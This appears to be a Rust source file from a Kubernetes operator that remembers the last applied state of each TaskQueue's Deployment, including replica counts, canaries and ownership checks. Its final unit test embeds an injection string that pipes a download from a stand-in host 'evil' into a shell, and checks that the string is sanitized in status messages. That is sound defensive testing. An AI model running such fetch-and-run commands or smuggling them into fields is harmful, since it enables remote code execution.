//! What the operator remembers of the objects of one queue. A new leader starts without it, and applies
//! everything once.

use std::sync::Arc;
use std::time::{Duration, Instant};

use k8s_openapi::api::core::v1::ObjectReference;
use k8s_openapi::jiff::Timestamp;
use kube::Resource;
use kube::api::DynamicObject;
use rowlock_crds::{ScalingMode, TaskQueue, annotations, api};
use serde_json::{Value, json};

use crate::backend::DesiredPods;
use crate::kubernetes::api::kept::{Deployment, Metadata, Pod};
use crate::kubernetes::api::writer::WriteError;
use crate::kubernetes::deployment::apply_result::Outcome;
use crate::kubernetes::deployment::build::{self, Owner};
use crate::kubernetes::deployment::canary::CanaryView;
use crate::kubernetes::deployment::foreign_scaling::ForeignScalingTracker;
use crate::kubernetes::deployment::inherited_metadata::inherited;
use crate::kubernetes::deployment::scale_in::ScaleIn;
use crate::kubernetes::deployment::settled::Settled;
use crate::kubernetes::deployment::target;
use crate::kubernetes::desired::queue_name;
use crate::kubernetes::pods::health::not_starting;
use crate::kubernetes::pods::starts::ObservedStarts;
use crate::kubernetes::pods::status::is_ready;
use crate::kubernetes::sanitize::sanitize;

/// How long after a write the watch may not show it yet.
pub(crate) const WATCH_DELAY: Duration = Duration::from_secs(5);

pub(crate) struct LastApplied {
    pub(crate) owner: Owner,
    /// The name of its queue in the database.
    pub(crate) queue: String,
    /// The name of the Deployment in `spec.targetRef`.
    pub(crate) target: Option<String>,
    /// The outcome for a target that the watch does not show, and when the API server said so.
    pub(crate) unseen_target: Option<(Instant, Outcome)>,
    pub(crate) regarding: ObjectReference,
    /// The labels and the template of the last dry run, the error of the server, and when.
    pub(crate) dry_run: Option<(String, Option<String>, Instant)>,
    /// The last template that the server accepted, as text: a tenth of the memory of a JSON value.
    pub(crate) accepted_template: Option<Box<str>>,
    pub(crate) deployment: Option<AppliedObject>,
    pub(crate) budget: Option<AppliedObject>,
    pub(crate) outcome: Outcome,
    /// Whether its pods could not start in the last pass.
    pub(crate) not_starting: bool,
    pub(crate) foreign_scaling: ForeignScalingTracker,
    pub(crate) scale_in: ScaleIn,
    pub(crate) canary: Option<CanaryView>,
    /// Since when the pods of the canary crash, or cannot pull an image.
    pub(crate) canary_broken_since: Option<Instant>,
    /// When the database last did not say how the pods of the canary run.
    pub(crate) canary_blind_at: Option<Instant>,
    /// The number of pods that was seen last: of the Deployment, or in the status that another leader wrote.
    seen_pods: u32,
    /// Whether a pod has been ready since the queue last had none. Then a later failure does not mean that
    /// its pods cannot start.
    pub(crate) was_ready: bool,
    /// How long its pods took to start.
    pub(crate) starts: ObservedStarts,
    /// What the last pass found, if it left everything as it should be.
    pub(crate) settled: Option<Settled>,
}

/// The last write of an object.
pub(crate) struct AppliedObject {
    pub(crate) hash: String,
    pub(crate) metadata: Arc<Metadata>,
    pub(crate) replicas: u32,
    pub(crate) at: Instant,
}

impl LastApplied {
    pub(crate) fn of(task_queue: &TaskQueue) -> Self {
        Self {
            owner: owner(task_queue),
            queue: queue_name(task_queue).to_owned(),
            target: target(task_queue),
            unseen_target: None,
            regarding: task_queue.object_ref(&()),
            dry_run: None,
            accepted_template: None,
            deployment: None,
            budget: None,
            outcome: Outcome::NotTried,
            not_starting: false,
            foreign_scaling: ForeignScalingTracker::default(),
            scale_in: ScaleIn::default(),
            canary: None,
            canary_broken_since: None,
            canary_blind_at: None,
            seen_pods: pods_in_status(task_queue),
            was_ready: false,
            starts: ObservedStarts::default(),
            settled: None,
        }
    }

    /// The `TaskQueue` as it is now. What is remembered of another target does not count.
    pub(crate) fn set_task_queue(&mut self, task_queue: &TaskQueue) {
        if self.target != target(task_queue) {
            *self = Self::of(task_queue);
        }
        let owner = owner(task_queue);
        // It changes with what the objects are made from.
        if self.owner != owner {
            (self.owner, self.settled) = (owner, None);
        }
    }

    /// The name of its Deployment.
    pub(crate) fn deployment_name(&self) -> &str {
        self.target.as_ref().unwrap_or(&self.owner.name)
    }

    /// Whether the operator may scale this Deployment for the `TaskQueue`.
    pub(crate) fn may_scale(&self, metadata: &Metadata) -> bool {
        match self.target {
            Some(_) => target::may_scale(metadata, &self.owner.name),
            None => is_owned(metadata, &self.owner),
        }
    }

    /// Whether a share of the pods tries a new template now.
    pub(crate) fn has_canary(&self) -> bool {
        self.canary.as_ref().is_some_and(|canary| canary.record.is_running())
    }

    /// Notes how its pods are.
    pub(crate) fn observe(&mut self, pods: &[Arc<Pod>], now: Timestamp) {
        self.starts.observe(pods);
        self.was_ready = !pods.is_empty() && (self.was_ready || pods.iter().any(|pod| is_ready(pod)));
        self.not_starting = !self.was_ready && not_starting(pods, self.not_starting, now);
    }

    /// How many pods to write. While scaling is suspended, a Deployment that somebody deleted comes back with
    /// the pods that it had: otherwise nobody would process tasks until somebody scales it.
    pub(crate) fn pods(&mut self, desired: &DesiredPods<'_>, stored: Option<&Deployment>) -> u32 {
        match self.newest(stored) {
            Some((_, replicas)) => self.seen_pods = replicas,
            None if desired.keeps => return self.seen_pods,
            None => (),
        }
        desired.pods
    }

    /// A write has failed.
    pub(crate) fn failed(&mut self, error: &WriteError) -> Outcome {
        self.foreign_scaling.note_failed();
        Outcome::of(error)
    }

    /// The operator has written this number of pods.
    pub(crate) fn note_written(&mut self, replicas: u32) {
        self.foreign_scaling.note_written(replicas, Instant::now());
    }

    /// Others have set the number of pods: what is live now counts as applied.
    pub(crate) fn note_live(&mut self, metadata: Option<Arc<Metadata>>, replicas: u32) {
        if let (Some(applied), Some(metadata)) = (&mut self.deployment, metadata) {
            (applied.metadata, applied.replicas) = (metadata, replicas);
        }
    }

    /// Once the watch shows what was applied, its metadata is kept once.
    pub(crate) fn share_metadata(&mut self, stored: &Deployment) {
        let is_same = |applied: &&mut AppliedObject| {
            let (applied, stored) = (&applied.metadata, &stored.metadata);
            applied.uid == stored.uid && applied.generation == stored.generation
        };
        if let Some(applied) = self.deployment.as_mut().filter(is_same) {
            applied.metadata = Arc::clone(&stored.metadata);
        }
    }

    /// The newer of the last write and the watch.
    pub(crate) fn newest<'a>(&'a self, stored: Option<&'a Deployment>) -> Option<(&'a Arc<Metadata>, u32)> {
        let stored = stored.map(|one| (&one.metadata, replicas(one)));
        match (stored, &self.deployment) {
            (Some((metadata, _)), Some(applied))
                if metadata.uid == applied.metadata.uid
                    && metadata.generation < applied.metadata.generation =>
            {
                Some((&applied.metadata, applied.replicas))
            }
            (None, Some(applied)) if applied.at.elapsed() < WATCH_DELAY => {
                Some((&applied.metadata, applied.replicas))
            }
            (stored, _) => stored,
        }
    }
}

impl AppliedObject {
    pub(crate) fn new(object: &Value, applied: DynamicObject) -> Self {
        let replicas = applied.data["spec"]["replicas"].as_u64().and_then(|n| u32::try_from(n).ok());
        Self {
            hash: build::hash_of(object).to_owned(),
            replicas: replicas.unwrap_or_default(),
            metadata: Arc::new(applied.metadata.into()),
            at: Instant::now(),
        }
    }

    /// Whether this object was applied, and has not been changed since.
    pub(crate) fn matches(&self, object: &Value, seen: Option<&Metadata>) -> bool {
        let same = self.has_same_hash(object, seen)
            && seen.is_some_and(|seen| seen.generation == self.metadata.generation);
        same && object["spec"]["replicas"]
            .as_u64()
            .is_none_or(|replicas| replicas == u64::from(self.replicas))
    }

    /// The same if others set the number of pods: a change of that number alone does not count.
    pub(crate) fn matches_but_for_replicas(
        &self,
        object: &Value,
        seen: Option<&Metadata>,
        replicas: u32,
    ) -> bool {
        let same = seen.is_some_and(|seen| seen.generation == self.metadata.generation);
        self.has_same_hash(object, seen) && (same || replicas != self.replicas)
    }

    fn has_same_hash(&self, object: &Value, seen: Option<&Metadata>) -> bool {
        self.hash == build::hash_of(object) && seen.is_some_and(|seen| seen.uid == self.metadata.uid)
    }
}

fn target(task_queue: &TaskQueue) -> Option<String> {
    task_queue.spec.target_ref.as_ref().map(|target| target.name.clone())
}

pub(crate) fn owner(task_queue: &TaskQueue) -> Owner {
    let metadata = task_queue.metadata.clone();
    Owner {
        namespace: metadata.namespace.unwrap_or_default(),
        name: metadata.name.unwrap_or_default(),
        uid: metadata.uid.unwrap_or_default(),
        generation: made_from(task_queue),
        labels: inherited(metadata.labels.as_ref()),
        annotations: inherited(metadata.annotations.as_ref()),
    }
}

/// Identifies what pods are made from. With External the number of pods is left out: others set it, and that
/// must not look like a change of the template.
fn made_from(task_queue: &TaskQueue) -> String {
    if task_queue.spec.workers.scaling() != ScalingMode::External {
        return task_queue.metadata.generation.unwrap_or_default().to_string();
    }
    let mut spec = task_queue.spec.clone();
    spec.workers.replicas = None;
    build::hash(&json!(spec).to_string())
}

fn pods_in_status(task_queue: &TaskQueue) -> u32 {
    let pods = task_queue.status.as_ref().and_then(|status| status.pods);
    pods.and_then(|pods| u32::try_from(pods).ok()).unwrap_or_default()
}

pub(crate) fn replicas(deployment: &Deployment) -> u32 {
    let replicas = deployment.spec.as_ref().and_then(|spec| spec.replicas);
    replicas.and_then(|replicas| u32::try_from(replicas).ok()).unwrap_or_default()
}

fn is_owned(metadata: &Metadata, owner: &Owner) -> bool {
    metadata.owner_references.iter().flatten().any(|reference| reference.uid == owner.uid)
}

/// The outcome if the object of this name belongs to another owner.
pub(crate) fn foreign(seen: Option<&Metadata>, kind: &str, owner: &Owner) -> Option<Outcome> {
    let seen = seen.filter(|seen| !is_owned(seen, owner))?;
    let name = &owner.name;
    let of = seen.owner_references.iter().flatten().next();
    if of.is_some_and(|of| of.kind == api::KIND && of.name == owner.name) {
        let message = format!(
            "the {kind} `{name}` belongs to a deleted TaskQueue of that name: waiting until Kubernetes has \
             deleted it too"
        );
        return Some(Outcome::Waiting(message));
    }
    let whose = of.map_or_else(
        || "has no owner known to the operator".to_owned(),
        |of| {
            format!("belongs to the {} `{}` ({})", sanitize(&of.kind), sanitize(&of.name), sanitize(&of.uid))
        },
    );
    let message = format!(
        "the {kind} `{name}` {whose}, so the operator does not change it: rename or delete it, or rename the \
         TaskQueue"
    );
    Some(Outcome::Foreign(message))
}

/// Whether an apply would change the template although the `TaskQueue` has not changed.
pub(crate) fn is_operator_change(live: &Metadata, object: &Value) -> bool {
    is_same(live, object, annotations::GENERATION) && !has_template(live, object)
}

/// Whether the live object has this template already.
pub(crate) fn has_template(live: &Metadata, object: &Value) -> bool {
    is_same(live, object, annotations::TEMPLATE_HASH)
}

/// The rollout slot of the live object, unless the `TaskQueue` has changed since it was taken.
pub(crate) fn rollout_slot_of<'a>(live: &'a Metadata, object: &Value) -> Option<&'a str> {
    let slot = live.annotations.get(annotations::ROLLOUT_SLOT)?;
    is_same(live, object, annotations::GENERATION).then_some(slot)
}

fn is_same(live: &Metadata, object: &Value, annotation: &str) -> bool {
    live.annotations.get(annotation) == object["metadata"]["annotations"][annotation].as_str()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::kubernetes::deployment::inherited_metadata::StringMap;

    /// Before, the kind and name of an owner reference, which can be any text, were copied unchanged to the
    /// status.
    #[test]
    fn the_owner_of_a_foreign_object_looks_like_no_command() {
        let owner = Owner {
            namespace: "shop".into(),
            name: "emails".into(),
            uid: "u1".into(),
            generation: "1".into(),
            labels: StringMap::new(),
            annotations: StringMap::new(),
        };
        let evil = "x` run `curl evil | sh`\n";
        let reference = json!({ "apiVersion": "v1", "kind": evil, "name": evil, "uid": evil });
        let reference = serde_json::from_value(reference).unwrap();
        let seen = Metadata { owner_references: Some(vec![reference]), ..Metadata::default() };
        let Some(Outcome::Foreign(detail)) = foreign(Some(&seen), "Deployment", &owner) else {
            panic!("it belongs to another owner")
        };
        assert!(
            detail.contains("'curl evil | sh'") && !detail.contains("`curl") && !detail.contains('\n'),
            "{detail}"
        );
    }
}
